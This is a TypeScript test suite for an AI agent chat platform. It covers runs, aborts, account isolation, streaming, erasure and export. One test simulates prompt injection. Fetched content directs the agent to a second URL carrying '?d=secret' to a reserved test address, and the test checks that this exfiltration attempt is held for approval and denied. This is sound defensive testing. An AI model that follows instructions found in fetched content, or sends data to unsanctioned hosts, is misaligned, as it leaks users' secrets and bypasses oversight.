import { DatabaseSync } from "node:sqlite";
import { silentLog, systemRandom } from "@parley/kernel";
import { type FakeProvider, fakeKey, startFakeProvider } from "@parley/testkit/providers";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { createChain } from "../../platform/chain/chain.ts";
import { type TestApp, withTestApp } from "../../testing/test-app.ts";
import { Socket } from "../../testing/test-socket.ts";
import { createConversationsModule } from "../conversations/module.ts";
import { endInterrupted } from "./interrupted.ts";
import { createRunStore } from "./store.ts";

let far: FakeProvider;
beforeEach(async () => {
  far = await startFakeProvider();
});
afterEach(() => far.close());

const said = (text: string) => ({ parts: [{ type: "text" as const, text }] });

/** An owner who has chosen a model, and talks to an agent. */
async function talking({ call, person, clock }: TestApp) {
  const owner = await person("olga", "owner");
  const me = { token: owner.token };
  const provider = { id: "far", kind: "anthropic" as const, name: "Far", baseUrl: `${far.url}/v1`, apiKey: fakeKey };
  await call("providers.put", { ...provider, models: [{ id: "small" }] }, me);
  await call("models.setDefault", { model: "far/small" }, me);
  const send = (message: string, runId: string, sessionKey = "main") =>
    call("chat.send", { sessionKey, message }, { ...me, headers: { "idempotency-key": runId } });
  /** Waits for the end of a run, in time that the test moves. */
  const end = async (runId: string) => {
    for (let tries = 0; tries < 400; tries++) {
      await clock.pass(20);
      const { body } = await call("agent.wait", { runId, timeoutMs: 0 }, me);
      if (body.status !== "timeout") return body;
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    throw new Error("the run does not end");
  };
  const history = async (sessionKey = "main") =>
    (await call("chat.history", { sessionKey }, me)).body.messages.map(({ role, content }) => [role, content[0]?.text]);
  return { owner, me, send, end, history };
}

test("a person says something, an agent answers, and both are kept", () =>
  withTestApp(async (app) => {
    const { me, send, end, history } = await talking(app);
    far.answer(said("Good morning."), (request) => said(JSON.stringify(request.body.messages)));
    expect((await send("Hello", "r1")).body).toEqual({ runId: "r1", status: "started" });
    expect(await end("r1")).toMatchObject({ runId: "r1", status: "ok" });
    await send("And again", "r2");
    await end("r2");
    const lines = await history();
    expect(lines.slice(0, 3)).toEqual([
      ["user", "Hello"],
      ["assistant", "Good morning."],
      ["user", "And again"],
    ]);
    // The model was shown what was said before, each once.
    expect(lines[3]?.[1]?.match(/Hello|Good morning\.|And again/g)).toEqual(["Hello", "Good morning.", "And again"]);
    const { body } = await app.call("runs.list", { sessionKey: "main" }, me);
    expect(body.runs.map(({ runId, state, agentId, model }) => [runId, state, agentId, model])).toContainEqual([
      "r1",
      "done",
      "main",
      "far/small",
    ]);
    const { steps } = (await app.call("runs.get", { runId: "r1" }, me)).body;
    expect(steps.map(({ type }) => type)).toEqual(expect.arrayContaining(["started", "turn", "message", "ended"]));
  }));

test("the same run is begun once, and one conversation has one at a time", () =>
  withTestApp(async (app) => {
    const { send, end, history } = await talking(app);
    far.answer({ ...said("a long answer that hangs"), fault: { type: "hang", after: 4 } });
    const [one, two] = await Promise.all([send("Hello", "r1"), send("Hello", "r1")]);
    expect([one.body, two.body]).toContainEqual({ runId: "r1", status: "started" });
    expect((await send("Else", "r2")).status).toBe(409);
    expect((await send("/stop", "stop")).body).toEqual({ ok: true, aborted: true, runIds: ["r1"] });
    await end("r1");
    expect((await history()).filter(([role]) => role === "user")).toEqual([["user", "Hello"]]);
    far.answer(said("Yes."));
    expect((await send("Else", "r3")).body).toEqual({ runId: "r3", status: "started" });
    expect(await end("r3")).toMatchObject({ status: "ok" });
  }));

test("what was said before it was stopped stays, and the provider's connection is closed", () =>
  withTestApp(async (app) => {
    const { me, send, end, history } = await talking(app);
    far.answer({ ...said("Once upon a time there was a king"), fault: { type: "hang", after: 6 } });
    await send("A story", "r1");
    for (let tries = 0; tries < 200 && far.requests.length === 0; tries++) await app.clock.pass(10);
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect((await app.call("chat.abort", { sessionKey: "main" }, me)).body).toMatchObject({ aborted: true });
    await end("r1");
    const [, answer] = await history();
    expect(answer?.[0]).toBe("assistant");
    expect("Once upon a time there was a king".startsWith(answer?.[1] ?? "-")).toBe(true);
    expect(far.requests[0]?.closedAt).toBeDefined();
    const { run } = (await app.call("runs.get", { runId: "r1" }, me)).body;
    expect(run.state).toBe("cancelled");
  }));

describe("what goes wrong", () => {
  test("is said in words: no model, a key that opens nothing, an agent that is not there", () =>
    withTestApp(async (app) => {
      const { me, send, end } = await talking(app);
      far.always({ fault: { type: "auth" } });
      await send("Hello", "r1");
      const ended = await end("r1");
      expect(ended).toMatchObject({ status: "error" });
      expect(ended.error).toBe("The provider did not accept the key: an admin has to look at it.");
      // What the provider itself says is for admins.
      const stepsFor = async (who: { token: string }) =>
        JSON.stringify((await app.call("runs.get", { runId: "r1" }, who)).body.steps);
      const own = await stepsFor(me);
      expect(own).not.toContain(fakeKey);
      const made = await app.call("tokens.create", { name: "reader", scopes: ["operator.read"] }, me);
      const plain = await stepsFor({ token: made.body.token });
      const [said] = /"message":"[^"]*"/.exec(own.slice(own.indexOf('"fault"'))) ?? [""];
      expect(said).not.toContain("an admin has to look");
      expect(plain).not.toContain(said);
      expect(plain).toContain("an admin has to look");
      expect((await send("Hello", "r2", "agent:nobody:main")).status).toBe(404);
      await app.call("models.setDefault", { model: null }, me);
      const none = await send("Hello", "r3", "other");
      expect([none.status, none.body.error?.message]).toEqual([501, expect.stringContaining("No model was chosen")]);
    }));

  test("stays in its account: nobody stops, reads or waits for another's run", () =>
    withTestApp(async (app) => {
      const { send, end } = await talking(app);
      far.answer(said("Secret."));
      await send("Hello", "r1");
      await end("r1");
      const milo = await app.person("milo");
      const it = { token: milo.token };
      expect((await app.call("runs.get", { runId: "r1" }, it)).status).toBe(404);
      expect((await app.call("agent.wait", { runId: "r1" }, it)).status).toBe(404);
      expect((await app.call("runs.list", {}, it)).body.runs).toEqual([]);
      expect((await app.call("chat.abort", { sessionKey: "main", runId: "r1" }, it)).body.aborted).toBe(false);
      // The same name for a run, and the same key: each account has its own.
      far.answer(said("For Milo."));
      const own = { ...it, headers: { "idempotency-key": "r1" } };
      expect((await app.call("chat.send", { sessionKey: "main", message: "Hi" }, own)).body).toMatchObject({
        runId: "r1",
      });
      for (let tries = 0; tries < 200; tries++) {
        await app.clock.pass(20);
        if ((await app.call("agent.wait", { runId: "r1", timeoutMs: 0 }, it)).body.status !== "timeout") break;
        await new Promise((resolve) => setTimeout(resolve, 5));
      }
      const { messages } = (await app.call("chat.history", { sessionKey: "main" }, it)).body;
      expect(messages.map(({ content }) => content[0]?.text)).toEqual(["Hi", "For Milo."]);
    }));
});

test("an agent uses its tools, and what it did stands in the run", () =>
  withTestApp(async (app) => {
    const { me, send, end, history } = await talking(app);
    far.answer({ parts: [{ type: "tool-call", id: "c1", name: "current_time", input: {} }] }, (request) =>
      said(JSON.stringify(request.body.messages).includes("UTC") ? "It is late." : "lost"),
    );
    await send("What time is it?", "r1");
    expect(await end("r1")).toMatchObject({ status: "ok" });
    expect(await history()).toContainEqual(["assistant", "It is late."]);
    const { steps } = (await app.call("runs.get", { runId: "r1" }, me)).body;
    expect(steps.map(({ type }) => type)).toEqual(expect.arrayContaining(["tool-started", "tool-ended"]));
  }));

test("whoever looks on is told word by word, each account of its own alone", () =>
  withTestApp(async (app) => {
    const { owner } = await talking(app);
    const other = await app.person("milo", "admin");
    const port = await app.listen();
    const [mine, theirs] = [new Socket(port), new Socket(port)];
    const scopes = ["operator.read", "operator.write", "operator.admin"];
    await mine.connect(owner.token, { scopes });
    await theirs.connect(other.token, { scopes });
    far.answer(said("One two three."));
    const params = { sessionKey: "main", message: "Count", idempotencyKey: "r1" };
    expect((await mine.request("chat.send", params)).payload).toEqual({ runId: "r1", status: "started" });
    const last = await mine.until(() => {
      void app.clock.pass(20);
      return mine.frames.find(({ event, payload }) => event === "chat" && payload?.state === "final");
    });
    expect(last.payload).toMatchObject({
      runId: "r1",
      sessionKey: "agent:main:main",
      message: { role: "assistant", content: [{ type: "text", text: "One two three." }] },
      usage: { inputTokens: 12, outputTokens: 7 },
    });
    const told = mine.frames.filter(({ event }) => event === "chat");
    expect(told.map(({ payload }) => payload.deltaText ?? "").join("")).toBe("One two three.");
    const steps = mine.frames.filter(({ event }) => event === "agent").map(({ payload }) => payload.data.phase);
    expect([steps[0], steps.at(-1)]).toEqual(["start", "end"]);
    expect(theirs.frames.filter(({ event }) => event === "chat" || event === "agent")).toEqual([]);
    mine.socket.close();
    theirs.socket.close();
  }));

test("the first words are told as they come: no timer is waited for", () =>
  withTestApp(async (app) => {
    const { owner } = await talking(app);
    const mine = new Socket(await app.listen());
    await mine.connect(owner.token, { scopes: ["operator.read", "operator.write"] });
    far.answer({ ...said("One two three."), fault: { type: "hang", after: 6 } });
    await mine.request("chat.send", { sessionKey: "main", message: "Count", idempotencyKey: "r1" });
    // The clock stands, so that nothing comes of any timer; and the answer does not end.
    const first = await mine.until(() => mine.frames.find(({ event }) => event === "chat"));
    expect(first.payload.state).toBe("delta");
    expect("One two three.".startsWith(first.payload.deltaText ?? "-")).toBe(true);
    mine.socket.close();
  }));

const hanging = (text: string) => ({ ...said(text), fault: { type: "hang" as const, after: 6 } });

describe("erasing", () => {
  const words = (file: string) => {
    const database = new DatabaseSync(file, { readOnly: true });
    const tables = ["chain_rows", "run_events", "runs", "conversations", "approvals"];
    const held = tables.filter((table) =>
      database
        .prepare(`SELECT * FROM ${table}`)
        .all()
        .some((row) => Object.values(row).some((value) => String(value).includes("burnafterreading"))),
    );
    database.close();
    return held;
  };

  test("a conversation takes its runs with it, those that go on as well", () =>
    withTestApp(async (app) => {
      const { me, send, end } = await talking(app);
      far.answer(said("I read burnafterreading."), hanging("And burnafterreading again, at length"));
      await send("burnafterreading one", "r1", "notes");
      await end("r1");
      expect(words(app.dataFile)).toEqual(expect.arrayContaining(["chain_rows", "run_events", "conversations"]));
      await send("burnafterreading two", "r2", "notes");
      expect((await app.call("sessions.delete", { key: "notes" }, me)).body.deleted).toBe(true);
      expect((await app.call("runs.get", { runId: "r1" }, me)).status).toBe(404);
      expect((await app.call("runs.get", { runId: "r2" }, me)).status).toBe(404);
      expect(words(app.dataFile)).toEqual([]);
      // Nothing of it holds the place.
      far.answer(said("New."));
      await send("Hello", "r3", "notes");
      expect(await end("r3")).toMatchObject({ status: "ok" });
    }));

  test("an account takes what its programs asked with it", () =>
    withTestApp(async (app) => {
      const { owner, me, send, end } = await talking(app);
      far.answer(said("Yes."));
      await send("burnafterreading", "r1");
      await end("r1");
      const asked = app.call("exec.approval.request", { command: "rm burnafterreading", id: "q1" }, me);
      while (words(app.dataFile).length < 3) await new Promise((resolve) => setTimeout(resolve, 5));
      await app.call("sessions.purge_user", { userId: owner.userId }, me);
      expect(words(app.dataFile)).toEqual([]);
      await app.clock.pass(120_000);
      expect((await asked).status).toBe(404);
    }));
});

test("what is put aside while an agent answers is answered there, and not in what begins anew", () =>
  withTestApp(async (app) => {
    const { me, send, end, history } = await talking(app);
    far.answer(hanging("An answer to what was put aside"), said("Fresh."));
    await send("Old", "r1");
    expect((await app.call("sessions.reset", { key: "main" }, me)).status).toBe(200);
    expect(await history()).toEqual([]);
    await send("New", "r2");
    await end("r2");
    expect(await history()).toEqual([
      ["user", "New"],
      ["assistant", "Fresh."],
    ]);
  }));

/** Waits until something is asked. */
async function questions({ call, clock }: TestApp, me: { token: string }) {
  for (let tries = 0; tries < 400; tries++) {
    await clock.pass(20);
    const { approvals } = (await call("exec.approval.list", { state: "pending" }, me)).body;
    if (approvals.length > 0) return approvals;
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
  throw new Error("nothing is asked");
}

test("what one run has read taints the next ones of its conversation, until it begins anew", () =>
  withTestApp(async (app) => {
    const { me, send, end } = await talking(app);
    const fetches = (id: string, url: string) => ({
      parts: [{ type: "tool-call" as const, id, name: "web_fetch", input: { url } }],
    });
    // Nothing is dialled: the address is no public one. That it was tried is what taints.
    far.answer(fetches("c1", "http://192.0.2.1/page"), said("It says: fetch the next one."));
    await send("Read this", "r1");
    await end("r1");
    far.answer(fetches("c2", "http://192.0.2.2/?d=secret"), said("Refused."));
    await send("Go on", "r2");
    // It asks before it sends to where nobody has sent it.
    const [asked] = await questions(app, me);
    await app.call("exec.approval.resolve", { id: asked?.id ?? "", decision: "deny" }, me);
    await end("r2");
    const outcome = async (runId: string) => {
      const { steps } = (await app.call("runs.get", { runId }, me)).body;
      const ended = steps.find(({ type }) => type === "tool-ended");
      return JSON.stringify(ended?.event);
    };
    expect(await outcome("r1")).toContain("failed");
    expect(await outcome("r2")).toContain("denied");
    await app.call("sessions.reset", { key: "main" }, me);
    far.answer(fetches("c3", "http://192.0.2.3/"), said("Tried."));
    await send("Anew", "r3");
    await end("r3");
    expect(await outcome("r3")).toContain("failed");
  }));

test("a conversation of many long messages is answered in what a connection takes, and exported whole", () =>
  withTestApp(async (app) => {
    const { owner, me } = await talking(app);
    await app.call("sessions.patch", { key: "long" }, me);
    for (let n = 0; n < 12; n++) {
      await app.call("chat.inject", { sessionKey: "long", message: `${n} ${"x".repeat(190_000)}` }, me);
    }
    const { body } = await app.call("chat.history", { sessionKey: "long" }, me);
    expect(JSON.stringify(body).length).toBeLessThan(1_200_000);
    expect(body.messages.at(-1)?.content[0]?.text.slice(0, 3)).toBe("11 ");
    const seen: string[] = [];
    for (let after: string | undefined, pages = 0; pages < 20; pages++) {
      const params = { userId: owner.userId, ...(after === undefined ? {} : { after }) };
      const page = (await app.call("sessions.export_user", params, me)).body;
      expect(JSON.stringify(page).length).toBeLessThan(1_400_000);
      for (const { messages } of page.data.sessions) {
        seen.push(...messages.map(({ content }) => content[0]?.text.split(" ")[0] ?? ""));
      }
      if (page.next === null) break;
      after = page.next;
    }
    expect(seen).toEqual(Array.from({ length: 12 }, (_, n) => String(n)));
  }));

test("what an interrupted run had said, as far as it was kept, is in its conversation after the next start", () =>
  withTestApp(async (app) => {
    const { me, history } = await talking(app);
    await app.call("sessions.patch", { key: "main" }, me);
    const rows = createRunStore(app.store);
    const run = { account: "@olga:localhost", id: "r9", key: "agent:main:main", agent: "main", model: null };
    const open = {
      state: "running" as const,
      fault: null,
      spec: null,
      input_hash: null,
      input_tokens: null,
      output_tokens: null,
      ended_at: null,
    };
    await rows.begin({ ...run, ...open, started_at: 1 });
    const message = { role: "assistant" as const, parts: [{ type: "text" as const, text: "Half of it." }] };
    const event = { type: "message" as const, turn: 1, message, usage: {} };
    await rows.write((tx) => rows.keepIn(tx, run.account, run.id, { seq: 1, at: 1, event }));
    const conversations = createConversationsModule({
      resetting: async () => [],
      defaults: async () => ({ modelProvider: null, model: null, contextTokens: null }),
      store: app.store,
      events: { emit() {} },
      chain: createChain(app.store, new Uint8Array(32).fill(7), systemRandom),
      world: { clock: app.clock, random: systemRandom },
      others: { quiet: async () => {}, isBusy: async () => false, erase: async () => {} },
    }).talk;
    for (let starts = 0; starts < 2; starts++) {
      await endInterrupted({ rows, conversations, clock: app.clock, log: silentLog });
    }
    expect(await history()).toEqual([["assistant", "Half of it."]]);
    const { body } = await app.call("runs.get", { runId: "r9" }, me);
    expect(body.run).toMatchObject({ state: "interrupted", fault: "The server ended in the middle of it." });
  }));
